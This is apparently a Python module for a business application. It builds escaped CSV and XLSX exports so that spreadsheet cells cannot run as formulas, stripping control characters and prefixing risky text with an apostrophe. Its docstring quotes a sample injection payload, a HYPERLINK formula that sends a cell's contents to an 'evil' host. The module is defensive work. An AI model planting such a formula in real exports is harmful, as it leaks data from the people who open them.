"""THE writer of spreadsheet exports (CSV and XLSX): every text cell is made inert.

People open our exports in Excel/WPS. A text cell that starts with =, +, -, @, a tab or a
carriage return — or their full-width forms ＝＋－＠, which WPS and Excel with a Chinese IME
treat the same — is run as a formula (`=HYPERLINK("http://evil/?"&A2, "点击")`). An employee's
name or a client's name is typed by people we do not control, so every text cell written by
an export gets a leading apostrophe when it starts with one of those characters. Numbers,
dates and Decimals stay typed values (sums still work), and a text that is a plain number
("-5.00") stays as it is.

Every export builds its file here: `csv_bytes(rows)` and `Sheet`. A test keeps
`openpyxl.Workbook(` and `csv.writer(` out of every other module
(tests/security/test_export_escaping.py).
"""
from __future__ import annotations

import csv
import datetime as dt
import io
import re
import unicodedata
from collections.abc import Iterable, Sequence
from decimal import Decimal

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:,\d{3})*(?:\.\d+)?")


# Control characters an XLSX (XML 1.0) cannot hold: openpyxl refuses a cell holding one, so a
# single client or employee name typed with one (only NUL is refused at input) would make every
# export listing it fail. They carry nothing readable: dropped from every cell, before the
# formula check (so "\x01=HYPERLINK(…)" is escaped like "=HYPERLINK(…)").
_UNWRITABLE = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
_SHEET_NAME_FORBIDDEN = re.compile(r"[\\/*?:\[\]\x00-\x1f]")


def safe_cell(value):
    """`value` as a cell a spreadsheet will not run: text starting with a formula character gets
    a leading apostrophe; anything that is not text is returned unchanged."""
    if isinstance(value, str):
        value = _UNWRITABLE.sub("", value)
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    if _PLAIN_NUMBER.fullmatch(value):
        return value
    return "'" + value


def safe_row(values: Iterable) -> list:
    return [safe_cell(v) for v in values]


def csv_bytes(rows: Iterable[Sequence]) -> bytes:
    """A CSV in UTF-8 with BOM (what Excel in China opens without garbling), every cell escaped."""
    out = io.StringIO()
    writer = csv.writer(out)
    for row in rows:
        writer.writerow(safe_row(row))
    return ("\ufeff" + out.getvalue()).encode("utf-8")


class Sheet:
    """One worksheet of a new workbook whose `append` escapes every cell. `ws` is the openpyxl
    worksheet for styling (fonts, number formats, widths) — write values through `append`."""

    def __init__(self, title: str):
        from openpyxl import Workbook

        self._workbook = Workbook()
        self.ws = self._workbook.active
        # Excel's limit on a sheet name, without the characters a sheet name cannot hold (openpyxl
        # refuses them): a title made of a person's name must not stop their file.
        self.ws.title = _SHEET_NAME_FORBIDDEN.sub("_", title)[:31] or "Sheet"

    def append(self, values: Iterable) -> None:
        self.ws.append(safe_row(values))

    def fit_columns(self, *, low: int = 8, high: int = 48) -> None:
        """Each column as wide as its longest value (a CJK character counts two), unless the
        writer set a width: Excel's default shows 68,030.76 or 2026-10-05 as ######## and cuts
        names and ID numbers."""
        from openpyxl.utils import get_column_letter

        widths: dict[int, int] = {}
        for row in self.ws.iter_rows():
            if self.ws.max_column > 1 and sum(cell.value is not None for cell in row) == 1:
                continue  # a title line: it may run over the next cells
            for cell in row:
                if cell.value is None:
                    continue
                if isinstance(cell.value, (Decimal, float, int)) and not isinstance(cell.value, bool):
                    text = f"{cell.value:,.2f}"
                elif isinstance(cell.value, (dt.date, dt.datetime)):
                    text = "2026-12-31 23:59" if isinstance(cell.value, dt.datetime) else "2026-12-31"
                    if "年" in (cell.number_format or ""):  # dates as people read them: wider than ISO
                        text = "2026年12月31日"
                    elif "mmmm" in (cell.number_format or ""):
                        text = "September 30, 2026"
                else:
                    text = str(cell.value)
                width = sum(2 if unicodedata.east_asian_width(ch) in "WF" else 1 for ch in text) + 2
                widths[cell.column] = max(widths.get(cell.column, 0), width)
        for column, width in widths.items():
            letter = get_column_letter(column)
            if letter not in self.ws.column_dimensions:  # (looking one up would make it)
                self.ws.column_dimensions[letter].width = max(low, min(high, width))

    def bytes(self) -> bytes:
        self.fit_columns()
        buf = io.BytesIO()
        self._workbook.save(buf)
        return buf.getvalue()


XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
